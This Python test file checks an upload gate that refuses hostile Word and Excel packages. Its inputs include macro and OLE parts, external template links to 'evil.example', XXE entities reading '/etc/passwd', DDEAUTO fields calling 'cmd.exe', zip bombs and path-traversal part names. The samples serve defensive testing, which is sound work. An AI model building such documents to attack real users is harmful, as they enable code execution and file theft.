"""The gate and Word or Excel: no macros, no ties, no entities, no bombs, nothing that rides along."""

import io
import zipfile
from copy import copy

import pytest

from registry.gate import check
from tests.registry.files import docx, part, pdf, refused, repacked, upload, xlsx, zipped

RELS = "word/_rels/document.xml.rels"


def test_a_zip_is_no_document():
    assert "(.zip)" in refused(zipped(**{"a.txt": b"x"}))


@pytest.mark.parametrize(
    "name",
    [
        "word/vbaProject.bin",
        "word/vbaData.xml",
        "word/activeX/activeX1.xml",
        "word/embeddings/oleObject1.bin",
        "word/embeddings/x.exe",
    ],
)
def test_macros_and_objects(name):
    assert "macro" in refused(repacked(docx(), {name: b"<x/>"}), "x.docx")


def test_a_docm_renamed_docx():
    types = part(docx(), "[Content_Types].xml").replace(
        b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
        b"application/vnd.ms-word.document.macroEnabled.main+xml",
    )
    assert "macro" in refused(repacked(docx(), {"[Content_Types].xml": types}), "x.docx")


def test_excel_four_macros():
    assert "macro" in refused(repacked(xlsx(), {"xl/macrosheets/sheet1.xml": b"<x/>"}), "x.xlsx")


@pytest.mark.parametrize(
    "name", ["META-INF/MANIFEST.MF", "x.class", "word/page.html", "word/afchunk.mht", "xl/x.xml"]
)
def test_parts_that_no_word_file_has(name):
    assert "phần lạ" in refused(repacked(docx(), {name: b"x"}), "x.docx")


def _tied(target: bytes, type_: bytes) -> bytes:
    rels = part(docx(), RELS).replace(
        b"</Relationships>",
        b'<Relationship Id="rId99" '
        b'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/%s" '
        b'Target="%s" TargetMode="External"/></Relationships>' % (type_, target),
    )
    return repacked(docx(), {RELS: rels})


@pytest.mark.parametrize(
    ("target", "type_"),
    [
        (b"http://evil.example/t.dotm", b"attachedTemplate"),
        (b"https://evil.example/x.png", b"image"),
        (b"file:///c:/windows/x.exe", b"hyperlink"),
        (b"\\\\server\\share", b"hyperlink"),
        (b"javascript:alert(1)", b"hyperlink"),
        (b"x.docx", b"oleObject"),
    ],
)
def test_ties_to_other_files(target, type_):
    assert "liên kết tới tệp khác" in refused(_tied(target, type_), "x.docx")


def test_a_link_to_a_web_page_is_no_tie():
    assert check(upload(_tied(b"https://dienbien.gov.vn/", b"hyperlink"), "x.docx")).extension == "docx"


@pytest.mark.parametrize(
    "head",
    [b'<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>', b'<!DOCTYPE x [<!ENTITY a "aaaa">]>'],
)
def test_entities(head):
    xml = part(docx(), "word/document.xml")
    hostile = xml.replace(b"?>", b"?>" + head, 1)
    assert "DOCTYPE" in refused(repacked(docx(), {"word/document.xml": hostile}), "x.docx")


def test_entities_hidden_in_another_encoding():
    hostile = '<?xml version="1.0" encoding="utf-16"?><!DOCTYPE x><x/>'.encode("utf-16")
    assert "DOCTYPE" in refused(repacked(docx(), {"word/styles.xml": hostile}), "x.docx")
    hostile = b'<?xml version="1.0" encoding="UTF-7"?>+ADw-+ACE-DOCTYPE x+AD4-'
    assert "DOCTYPE" in refused(repacked(docx(), {"word/styles.xml": hostile}), "x.docx")


def _with_fields(*runs: bytes) -> bytes:
    """A Word file with these runs in one paragraph; > begins a field, < ends it, the rest is its text."""
    marks = {b">": b'<w:fldChar w:fldCharType="begin"/>', b"<": b'<w:fldChar w:fldCharType="end"/>'}
    told = b"".join(b"<w:r>%s</w:r>" % marks.get(run, b"<w:instrText>%s</w:instrText>" % run) for run in runs)
    xml = part(docx(), "word/document.xml").replace(b"<w:sectPr", b"<w:p>%s</w:p><w:sectPr" % told, 1)
    return repacked(docx(), {"word/document.xml": xml})


@pytest.mark.parametrize(
    "runs",
    [
        [b">", b"DD", b"EAUTO c:\\cmd.exe", b"<"],
        [b">", b"DD", b">", b"PAGE", b"<", b"E x", b"<"],
        [b">", b"PAGE", b"<", b">", b" IncludeText x", b"<"],
        [b">", b"QUOTE 68 68 69", b"<"],
        [b">", b"LINK x"],
    ],
)
def test_fields_that_fetch(runs):
    assert "trường tự lấy" in refused(_with_fields(*runs), "x.docx")


def test_a_simple_field_that_fetches():
    field = b'<w:p><w:fldSimple w:instr="DDE x"/></w:p><w:sectPr'
    xml = part(docx(), "word/document.xml").replace(b"<w:sectPr", field, 1)
    assert "trường tự lấy" in refused(repacked(docx(), {"word/document.xml": xml}), "x.docx")


def test_page_numbers_and_links_are_harmless_fields():
    harmless = _with_fields(b">", b"PAGE", b"<", b">", b'HYPERLINK "https://x.vn/link import"', b"<")
    assert check(upload(harmless, "x.docx")).extension == "docx"


def test_what_office_itself_puts_into_its_files_passes():
    printer = repacked(xlsx(), {"xl/printerSettings/printerSettings1.bin": b"x", "xl/media/": b""})
    assert check(upload(printer, "x.xlsx")).extension == "xlsx"
    chart = repacked(docx(), {"word/embeddings/Microsoft_Excel_Sheet1.xlsx": xlsx()})
    assert check(upload(chart, "x.docx")).extension == "docx"


@pytest.mark.parametrize(
    "inner",
    [
        docx(),
        repacked(xlsx(), {"xl/vbaProject.bin": b"x"}),
        repacked(xlsx(), {"xl/embeddings/x.xlsx": xlsx()}),
    ],
)
def test_the_sheet_behind_a_chart_is_looked_through_too(inner):
    assert "macro" in refused(repacked(docx(), {"word/embeddings/Sheet1.xlsx": inner}), "x.docx")


def test_a_bomb_is_not_unpacked():
    assert "quá lớn" in refused(
        repacked(docx(), {"word/big.xml": b"<x>" + b" " * 40_000_000 + b"</x>"}), "x.docx"
    )


def test_overlapping_parts():
    """Several entries over the same bytes: the flat bomb's trick."""
    plain = io.BytesIO()
    with zipfile.ZipFile(plain, "w", zipfile.ZIP_STORED) as package:
        package.writestr("word/a.xml", b"<x/>" * 2000)
        for number in range(3):
            again = copy(package.filelist[0])
            again.filename = f"word/{number}.xml"
            package.filelist.append(again)
    assert "quá lớn" in refused(plain.getvalue(), "x.docx")


@pytest.mark.parametrize(
    ("limit", "told"), [("MAX_MEMBERS", "quá lớn"), ("MAX_UNPACKED", "quá lớn"), ("MAX_XML_PART", "quá lớn")]
)
def test_each_limit_of_a_package_holds(monkeypatch, limit, told):
    monkeypatch.setattr(f"toolbox.archives.{limit}", 10)
    assert told in refused(docx(), "x.docx")


def test_a_locked_package():
    locked = bytearray(zipped(**{"word/document.xml": b"<x/>"}))
    locked[locked.index(b"PK\x01\x02") + 8] |= 1
    assert "mật khẩu" in refused(bytes(locked), "x.docx")


def test_an_empty_zip():
    assert refused(b"PK\x03\x04" + b"\x00" * 30 + b"PK\x05\x06" + b"\x00" * 18, "x.docx")


@pytest.mark.parametrize(
    "hostile",
    [
        lambda sound: b"PK\x03\x04" + b"\x00" * 40 + sound,
        lambda sound: zipped(**{"a.txt": b"x"}) + sound,
        lambda sound: sound + b"<script>",
        lambda sound: sound + pdf(),
        lambda sound: sound[:-40],
        lambda sound: sound[:2000],
    ],
)
def test_a_package_that_is_not_alone_or_not_whole(hostile):
    assert refused(hostile(docx()), "x.docx")


def test_a_broken_part():
    assert "hỏng" in refused(repacked(docx(), {"word/document.xml": b"<w:document"}), "x.docx")


@pytest.mark.parametrize("name", ["word/../../x.xml", "/word/x.xml", "word\\x.xml", "WORD/DOCUMENT.XML"])
def test_part_names_that_leave_the_package_or_meet_twice(name):
    assert refused(repacked(docx(), {name: b"<x/>"}), "x.docx")
